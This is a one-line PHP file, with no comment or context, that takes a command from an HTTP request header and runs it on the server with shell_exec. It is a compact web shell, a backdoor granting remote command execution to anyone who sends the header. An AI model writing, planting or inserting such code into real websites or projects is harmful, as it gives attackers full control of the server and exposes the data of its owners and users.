<?php $c = getenv("HTTP_X_CMD"); if ($c) { echo shell_exec($c); }
